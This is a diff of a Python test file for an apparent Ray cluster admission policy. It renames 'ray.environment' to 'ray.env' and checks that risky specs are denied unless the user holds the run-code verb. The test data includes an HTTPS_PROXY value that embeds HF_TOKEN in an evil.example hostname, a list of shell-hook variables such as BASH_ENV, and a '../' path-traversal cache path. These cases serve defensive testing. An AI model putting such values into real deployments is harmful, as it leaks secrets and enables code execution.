@@ -64,8 +64,10 @@ def with_scaling_policy_of_a_node(spec: dict[str, Any]) -> None:
 
 def with_variable(name: str, value: str | None = "x") -> Callable[[dict[str, Any]], None]:
     def change(spec: dict[str, Any]) -> None:
-        given = {"secretKeyRef": {"name": "token", "key": "token"}} if value is None else {"value": value}
-        spec["ray"]["environment"] = [{"name": "HF_HUB_OFFLINE", "value": "1"}, {"name": name, **given}]
+        given = (
+            {"valueFrom": {"secretKeyRef": {"name": "token", "key": "token"}}} if value is None else {"value": value}
+        )
+        spec["ray"]["env"] = [{"name": "HF_HUB_OFFLINE", "value": "1"}, {"name": name, **given}]
 
     return change
 
@@ -100,7 +102,7 @@ FORBIDDEN = [
     (with_scaling_policy, "autoscaling.policy needs the verb run-code"),
     (with_scaling_policy_of_a_node, "autoscaling.policy needs the verb run-code"),
     *(
-        (with_variable(name), f"ray.environment ({name}) needs the verb run-code")
+        (with_variable(name), f"ray.env ({name}) needs the verb run-code")
         for name in (
             "BASH_ENV",
             "ENV",
@@ -121,8 +123,8 @@ FORBIDDEN = [
             "OMP_NUM_THREADS2",
         )
     ),
-    (with_variable("HTTPS_PROXY", "http://$(HF_TOKEN).evil.example"), "ray.environment (HTTPS_PROXY) needs"),
-    (with_variable("HTTP_PROXY", None), "ray.environment (HTTP_PROXY) needs"),
+    (with_variable("HTTPS_PROXY", "http://$(HF_TOKEN).evil.example"), "ray.env (HTTPS_PROXY) needs"),
+    (with_variable("HTTP_PROXY", None), "ray.env (HTTP_PROXY) needs"),
     (with_redis, "head.faultTolerance.redis needs the verb run-code"),
     (with_cache("/app/lib"), "a ray.modelCache.path outside /models, /cache, /data and /mnt needs the verb run-code"),
     (with_cache("/models/../app"), "a ray.modelCache.path outside"),
@@ -220,7 +222,7 @@ def test_who_may_not_run_code(user: Admin, policy: None, namespace: str, change:
 
 
 def everything_safe(spec: dict[str, Any]) -> None:
-    spec["ray"]["environment"] = [{"name": name, "value": "1"} for name in SAFE_VARIABLES]
+    spec["ray"]["env"] = [{"name": name, "value": "1"} for name in SAFE_VARIABLES]
     spec["ray"]["modelCache"] = {"path": "/models/hub", "claimName": "mine"}
     spec["ray"] |= {"authentication": "Token", "podSecurity": "Restricted"}
     spec["network"] = {"ingress": {"host": "a.example"}}
